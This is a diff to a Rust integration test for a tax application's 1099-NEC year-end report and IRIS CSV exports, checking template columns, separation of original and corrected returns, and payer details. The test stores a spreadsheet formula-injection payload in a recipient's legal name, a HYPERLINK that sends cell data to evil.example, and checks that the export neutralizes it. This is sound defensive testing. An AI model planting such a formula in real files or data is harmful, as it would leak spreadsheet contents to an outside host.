@@ -97,12 +97,25 @@ async fn pay(app: &TestApp, maker: &Tokens, checker: &Tokens, amounts: &[(i64, i
     assert_eq!(status, 200, "{body}");
 }
 
+fn dollars_to_cents(amount: &str) -> i64 {
+    let d: rust_decimal::Decimal = amount.parse().unwrap();
+    (d * rust_decimal::Decimal::ONE_HUNDRED).try_into().unwrap()
+}
+
 fn payee_line(report: &Value, user: i64) -> &Value {
     report["payees"].as_array().unwrap().iter().find(|p| p["user_id"] == user).unwrap_or(&Value::Null)
 }
 
 async fn year_end_reports_issues_corrects_and_exports(backend: Backend) {
-    let options = Options { vars: vec![("GATEHOUSE_IRIS_RETURNS_PER_FILE", "1".into())], ..Default::default() };
+    let options = Options {
+        vars: vec![
+            ("GATEHOUSE_IRIS_RETURNS_PER_FILE", "1".into()),
+            ("GATEHOUSE_PAYER_TIN", "12-3456789".into()),
+            ("GATEHOUSE_PAYER_PHONE", "(518) 555-0100".into()),
+            ("GATEHOUSE_PAYER_STATE_IDS", "TX=32-1234567,NY=98765".into()),
+        ],
+        ..Default::default()
+    };
     let app = TestApp::spawn_with(backend, options).await;
     let admin = app.admin().await;
     let mut maker = app.staff(&admin, "maker@gatehouse.test", &["finance"]).await;
@@ -199,7 +212,20 @@ async fn year_end_reports_issues_corrects_and_exports(backend: Backend) {
     assert_eq!((doc["version"].as_i64(), doc["corrected"].as_bool()), (Some(2), Some(true)));
     assert_eq!(doc["recipient_tin"], "***-**-6713");
 
-    // Exports: the plain CSV holds every form; IRIS comes in parts of one return here.
+    // A legal name stored before formula-leading text was refused at input.
+    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+    app.state
+        .db
+        .tx_sync(|conn| {
+            use diesel::prelude::*;
+            use gatehouse::db::schema::tax_profiles as tp;
+            diesel::update(tp::table.filter(tp::user_id.eq(e))).set(tp::legal_name.eq(formula)).execute(conn)?;
+            Ok(())
+        })
+        .unwrap();
+
+    // Exports: the plain CSV holds every form's latest version; IRIS comes in parts of
+    // one return here, originals and corrections in separate files.
     let get_csv = |path: String| {
         let (client, url, token) = (app.client.clone(), app.url(&path), maker.access.clone());
         async move {
@@ -214,27 +240,73 @@ async fn year_end_reports_issues_corrects_and_exports(backend: Backend) {
     assert_eq!(lines.len(), 3, "{plain}");
     assert!(plain.contains("123-45-6713") && plain.contains("2000.00"), "{plain}");
     assert!(!plain.contains("123-45-6703"), "the corrected TIN replaces the old one: {plain}");
-    let mut iris_total = 0i64;
-    let mut iris_rows = 0;
+    let mut reader = csv::Reader::from_reader(plain.as_bytes());
+    let cells: Vec<String> =
+        reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
+    assert!(cells.contains(&format!("'{formula}")), "the stored formula is neutralized: {plain}");
+    assert!(cells.iter().all(|c| !gatehouse::text::formula_leading(c)), "{plain}");
+
+    let template =
+        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/templates/tax/irs/iris_1099nec_template.csv"))
+            .unwrap();
+    let template: Vec<String> =
+        csv::Reader::from_reader(template.as_bytes()).headers().unwrap().iter().map(String::from).collect();
+    let read_iris = |body: &str| {
+        let mut reader = csv::Reader::from_reader(body.as_bytes());
+        let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+        assert_eq!(headers, template, "the IRIS file follows the stored template column for column");
+        reader
+            .records()
+            .map(|r| {
+                headers
+                    .iter()
+                    .cloned()
+                    .zip(r.unwrap().iter().map(String::from))
+                    .collect::<std::collections::BTreeMap<_, _>>()
+            })
+            .collect::<Vec<_>>()
+    };
+    let mut originals = Vec::new();
     for part in 1..=2 {
         let (status, parts, body) = get_csv(format!("/tax/1099-nec/2026/export?format=iris_csv&part={part}")).await;
         assert_eq!((status, parts.as_deref()), (200, Some("2")), "{body}");
-        let mut reader = csv::Reader::from_reader(body.as_bytes());
-        let headers = reader.headers().unwrap().clone();
-        assert_eq!(&headers[0], "Form Type");
-        let box1 = headers.iter().position(|h| h == "Box 1 Nonemployee Compensation").unwrap();
-        let corrected = headers.iter().position(|h| h == "Corrected Return Indicator").unwrap();
-        for row in reader.records() {
-            let row = row.unwrap();
-            iris_rows += 1;
-            let dollars: rust_decimal::Decimal = row[box1].parse().unwrap();
-            iris_total += (dollars * rust_decimal::Decimal::ONE_HUNDRED).try_into().unwrap_or(0i64);
-            if &row[box1] == "2000.00" {
-                assert_eq!(&row[corrected], "X");
-            }
-        }
+        originals.extend(read_iris(&body));
     }
-    assert_eq!(iris_rows, 2);
+    assert_eq!(originals.len(), 2, "one original return per payee");
+    let iris_total: i64 = originals.iter().map(|r| dollars_to_cents(&r["Box 1 Nonemployee Compensation"])).sum();
+    for r in &originals {
+        assert_eq!(r["Corrected Return Indicator"], "", "originals only");
+        assert!(r["Recipient TIN"].len() == 9 && r["Recipient TIN"].bytes().all(|b| b.is_ascii_digit()), "{r:?}");
+        assert_eq!(r["Payer TIN"], "123456789");
+        assert_eq!((r["Payer Phone Number"].as_str(), r["Payer Country Code"].as_str()), ("5185550100", "US"));
+        assert_eq!((r["Recipient State"].as_str(), r["Recipient Country Code"].as_str()), ("TX", "US"));
+        assert_eq!((r["Box 6 State"].as_str(), r["Box 6 Payer State Number"].as_str()), ("TX", "32-1234567"));
+        assert_eq!(r["Box 7 State Income"], r["Box 1 Nonemployee Compensation"]);
+        assert_eq!(r["Box 5 State Tax Withheld"], "");
+        assert!(r.values().all(|c| !gatehouse::text::formula_leading(c)), "{r:?}");
+    }
+    let casey = originals.iter().find(|r| r["Recipient Last Name"] == "Cross").expect("Casey's original");
+    assert_eq!(casey["Recipient TIN"], "123456703", "the original return, as first issued");
+    assert_eq!((casey["Recipient First Name"].as_str(), casey["Recipient TIN Type"].as_str()), ("Casey", "SSN"));
+    assert_eq!(casey["Box 1 Nonemployee Compensation"], "2000.00");
+    assert_eq!(casey["Box 4 Federal Income Tax Withheld"], "", "blank, not 0.00, without withholding");
+    let emery = originals.iter().find(|r| r["Box 1 Nonemployee Compensation"] == "100.00").expect("Emery's original");
+    assert_eq!(emery["Box 4 Federal Income Tax Withheld"], "24.00");
+    assert_eq!(emery["Recipient Last Name"], format!("'{formula}"), "neutralized");
+
+    // The corrections file carries only the corrected return.
+    let (status, parts, body) = get_csv("/tax/1099-nec/2026/export?format=iris_csv&returns=corrected".into()).await;
+    assert_eq!((status, parts.as_deref()), (200, Some("1")), "{body}");
+    let corrections = read_iris(&body);
+    assert_eq!(corrections.len(), 1, "{body}");
+    let c = &corrections[0];
+    assert_eq!((c["Corrected Return Indicator"].as_str(), c["Recipient TIN"].as_str()), ("X", "123456713"));
+    assert_eq!(c["Account Number"], casey["Account Number"], "the account number ties the correction to its original");
+    let (status, _, _) = get_csv("/tax/1099-nec/2026/export?format=iris_csv&returns=corrected&part=2".into()).await;
+    assert_eq!(status, 422);
+    let (status, _, _) = get_csv("/tax/1099-nec/2026/export?format=iris_csv&returns=everything".into()).await;
+    assert_eq!(status, 400, "an unknown selection is refused");
+
     let (_, r2026) = app.get("/tax/1099-nec/2026", Some(&maker.access)).await;
     let due_total: i64 = r2026["payees"]
         .as_array()
